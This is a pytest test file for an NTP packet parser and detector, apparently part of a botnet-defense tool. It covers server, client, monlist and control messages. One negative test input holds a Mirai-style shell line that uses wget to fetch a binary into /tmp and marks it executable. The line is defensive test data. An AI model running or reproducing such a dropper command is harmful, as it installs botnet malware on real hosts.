import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from botwarden.protocols.ntp import MAX_EXTENSIONS, MONLIST, looks_like_ntp, parse_ntp
from captures import ip_bytes

EPOCH = 2_208_988_800


def ntp(
    mode: int = 4,
    *,
    version: int = 4,
    stratum: int = 2,
    reference: bytes = ip_bytes("192.0.2.1"),
    times: tuple[float, float, float, float] = (1000.0, 1001.25, 1001.5, 1001.75),
    more: bytes = b"",
) -> bytes:
    """A message of modes 1 to 5 (RFC 5905, 7.3); times in seconds since 1970, 0 for "not set"."""
    head = struct.pack(">BBbbII4s", version << 3 | mode, stratum, 6, -20, 0x8000, 0x4000, reference)
    return head + b"".join(struct.pack(">Q", int((time + EPOCH) * 2**32) if time else 0) for time in times) + more


CLIENT = ntp(3, stratum=0, reference=bytes(4), times=(0, 0, 0, 1002.0))
MONLIST_ASKED = bytes([0x17, 0, 3, MONLIST]) + bytes(4)
MONLIST_GIVEN = struct.pack(">BBBBHH", 0x97, 14, 3, MONLIST, 5, 72) + bytes(5 * 72)
READVAR = struct.pack(">BBHHHHH", 0x16, 2, 1, 0, 0, 0, 0)


def test_reads_what_a_server_says() -> None:
    read = parse_ntp(ntp())
    assert read is not None
    assert (read.version, read.mode, read.code, read.response) == (4, 4, None, None)
    said = read.time
    assert said is not None
    assert (said.stratum, said.poll, said.precision) == (2, 64.0, 2**-20)
    assert (said.root_delay, said.root_disp, said.ref_id) == (0.5, 0.25, "192.0.2.1")
    assert (said.ref_time, said.org_time, said.rec_time, said.xmt_time) == (1000.0, 1001.25, 1001.5, 1001.75)


def test_what_is_not_set_is_nought() -> None:
    read = parse_ntp(CLIENT)
    assert read is not None
    assert read.time is not None
    assert (read.time.ref_time, read.time.org_time, read.time.xmt_time) == (0.0, 0.0, 1002.0)


def test_reference_clocks_have_four_characters_as_sent() -> None:
    read = parse_ntp(ntp(stratum=1, reference=b"GPS\0"))
    assert read is not None
    assert read.time is not None
    assert read.time.ref_id == "GPS\0"


def test_extensions_are_counted_and_a_digest_is_none() -> None:
    extension = b"\1\4\0\x10" + bytes(12)
    for more, count in [
        (b"", 0),
        (extension, 1),
        (extension * 2 + bytes(20), 2),
        (bytes(20), 0),
        (bytes(24), 0),
        (b"\1\4\xff\xf0" + bytes(12), 0),
        (b"\1\4\0\0" + bytes(12), 0),
        (extension * (MAX_EXTENSIONS + 9), MAX_EXTENSIONS),
    ]:
        read = parse_ntp(ntp(more=more))
        assert read is not None
        assert read.time is not None
        assert read.time.num_exts == count


@pytest.mark.parametrize(
    ("payload", "mode", "code", "response"),
    [
        (MONLIST_ASKED, 7, 42, False),
        (MONLIST_GIVEN, 7, 42, True),
        (READVAR, 6, 2, False),
        (READVAR[:1] + b"\x82" + READVAR[2:], 6, 2, True),
    ],
)
def test_control_and_private_messages(payload: bytes, mode: int, code: int, response: bool) -> None:
    read = parse_ntp(payload)
    assert read is not None
    assert (read.version, read.mode, read.code, read.response, read.time) == (2, mode, code, response, None)
    assert looks_like_ntp(payload)


def test_what_is_too_short_or_reserved_gives_none() -> None:
    assert parse_ntp(b"") is None
    assert parse_ntp(ntp()[:47]) is None
    assert parse_ntp(ntp(0)) is None
    assert parse_ntp(READVAR[:11]) is None
    assert parse_ntp(MONLIST_ASKED[:7]) is None


@pytest.mark.parametrize(
    "payload",
    [
        ntp(),
        CLIENT,
        ntp(3, version=1, stratum=0, reference=bytes(4), times=(0, 0, 0, 0)),
        ntp(more=bytes(20)),
        b"\x23\0\0\x20" + bytes(36) + bytes(range(8)),  # a client that tells nothing of itself
        b"\x1b" + bytes(47),
    ],
)
def test_ntp_is_known_by_its_content(payload: bytes) -> None:
    assert looks_like_ntp(payload)


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        bytes(48),
        b"\x24" + bytes(47),  # a server without a time
        ntp()[:47],
        ntp() + b"x",
        ntp(stratum=17),
        ntp(version=7),
        ntp(times=(-EPOCH + 5, 0, 0, 1000.0)),  # 1900
        b"\x24\1\x40" + ntp()[3:],  # a poll of 2 to the power of 64
        b"#!/bin/sh\ncd /tmp; wget http://192.0.2.1/mirai.arm; chmod 777",
        b"\x16\x03\x01\x02\0" + bytes(200),  # TLS
        b"\x17\x03\x03\0\x20" + bytes(32),
        b"\x17\x00\x03\x2a\x00\x05\x00\x48",  # five items announced, none there
        b"\x16\x02\0\1\0\0\0\0\0\0\0\x09",
        b"'" * 60,
    ],
)
def test_other_content_is_not_ntp(payload: bytes) -> None:
    assert not looks_like_ntp(payload)


@given(st.binary(max_size=120))
def test_any_bytes_give_a_message_or_none(data: bytes) -> None:
    looks_like_ntp(data)
    read = parse_ntp(data)
    assert read is None or 1 <= read.mode <= 7
